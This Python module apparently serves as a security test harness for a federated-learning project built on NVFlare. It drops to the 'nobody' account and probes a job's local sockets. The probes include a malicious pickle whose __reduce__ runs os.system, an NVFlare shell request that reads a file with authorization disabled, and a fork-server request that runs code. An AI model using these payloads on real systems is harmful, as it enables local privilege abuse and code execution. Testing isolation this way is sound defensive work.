"""Another account of this computer, without any credential: what it gets from the sockets that a job's processes have.

Run as a program, it is that account's own: it tries some ways in at once, and prints what came of each as JSON.
"""

import itertools
import json
import os
import pickle
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import asdict, dataclass
from multiprocessing.connection import Client
from pathlib import Path
from typing import Any

from fedsft_assets.federation.runtimes.simulator.forked_python import LENGTH
from fedsft_assets.settings import PROJECT

NOBODY = 65534
_SECONDS = 6.0
_numbers = itertools.count()


@dataclass(frozen=True)
class Got:
    """Whether somebody was there who kept the connection, and what was said."""

    connected: bool
    said: str = ""


def why_not() -> str | None:
    """Why nothing can be done here as another account, or None."""
    if os.geteuid() != 0:
        return "to act as another account needs root"
    if not shutil.which("setpriv"):
        return "to act as another account needs the command setpriv of util-linux"
    return None


def as_nobody() -> list[str]:
    """What goes before a command that is to be run by an account that owns nothing."""
    return ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--"]


def tried_as_nobody(ways: Sequence[Sequence[str]]) -> list[Got]:
    """What comes of each of these, tried by an account that owns nothing: a name of `_WAYS`, and its arguments."""
    done = subprocess.run(
        [*as_nobody(), sys.executable, "-m", __name__, json.dumps(ways)],
        cwd="/",
        env={"PATH": os.environ["PATH"], "PYTHONPATH": str(PROJECT), "HOME": "/nonexistent"},
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    return [Got(**said) for said in json.loads(done.stdout.splitlines()[-1])]


def _join(url: str, cell: str, file: str) -> Got:
    """Connect as a cell below the one that listens, and have it print a file by a shell command."""
    from nvflare.fuel.f3.cellnet.cell import Cell
    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
    from nvflare.private.admin_defs import Message
    from nvflare.private.defs import CellChannel, RequestHeader, SysCommandTopic, new_cell_message

    stranger = Cell(
        fqcn=f"{cell}.stranger{next(_numbers)}",
        root_url=None,
        secure=False,
        credentials={},
        parent_url=url,
        parent_resources={},
    )
    stranger.start()
    until = time.monotonic() + _SECONDS
    while not (connected := stranger.is_cell_connected(cell)) and time.monotonic() < until:
        time.sleep(0.1)
    said = ""
    if connected:
        request = Message(topic=SysCommandTopic.SHELL, body=f"cat {file}")
        request.set_header(RequestHeader.REQUIRE_AUTHZ, "false")
        reply = stranger.send_request(
            channel=CellChannel.CLIENT_MAIN,
            topic=SysCommandTopic.SHELL,
            target=cell,
            request=new_cell_message({}, request),
            timeout=_SECONDS,
        )
        body = getattr(reply.payload, "body", reply.payload)
        said = f"{reply.get_header(MessageHeaderKey.RETURN_CODE)}: {body}"
    return Got(connected, said)


class _Code:
    """Unpickled, it leaves a file behind."""

    def __init__(self, trace: str) -> None:
        self._trace = trace

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return os.system, (f"id -u > {self._trace}; chmod a+r {self._trace}",)


def _pickle(port: str, trace: str) -> Got:
    """Send what runs code where it is unpickled."""
    connected = True
    try:
        with Client(("localhost", int(port))) as connection:
            connection.send_bytes(pickle.dumps(_Code(trace)))
            time.sleep(1.0)
    except OSError:
        connected = False
    return Got(connected, Path(trace).read_text() if Path(trace).exists() else "")


def _call(address: str, word: str = "") -> Got:
    """Connect to a Unix socket, say something, and wait for a word."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(_SECONDS)
        try:
            connection.connect(f"\0{address[1:]}" if address.startswith("@") else address)
            connection.sendall(word.encode("latin-1"))
            heard = connection.recv(4096)
        except TimeoutError:
            return Got(True, "it waits")
        except OSError as error:
            return Got(False, str(error))
        return Got(bool(heard), heard.hex())


def _fork(address: str, trace: str) -> Got:
    """Ask a fork server for a process that leaves a file behind."""
    fields = ["/", "3", "timeit", "-n1", f"open({trace!r}, 'w').close()"]
    request = "\0".join(fields).encode()
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(_SECONDS)
        try:
            connection.connect(f"\0{address[1:]}")
            socket.send_fds(connection, [LENGTH.pack(len(request))], [0, 1, 2])
            connection.sendall(request)
            heard = connection.recv(4)
        except OSError as error:
            return Got(False, str(error))
        return Got(bool(heard), heard.hex())


_WAYS: dict[str, Callable[..., Got]] = {"join": _join, "pickle": _pickle, "call": _call, "fork": _fork}


def main() -> None:
    from fedsft_assets.federation.connections import local_driver

    local_driver.use_local_driver()
    local_driver.require_own_user = lambda _: None  # who listens may be anybody
    with ThreadPoolExecutor(32) as pool:
        tried = [pool.submit(_WAYS[way], *rest) for way, *rest in json.loads(sys.argv[1])]
        print(json.dumps([asdict(one.result()) for one in tried]), flush=True)
    os._exit(0)  # NVFlare leaves threads behind


if __name__ == "__main__":
    main()
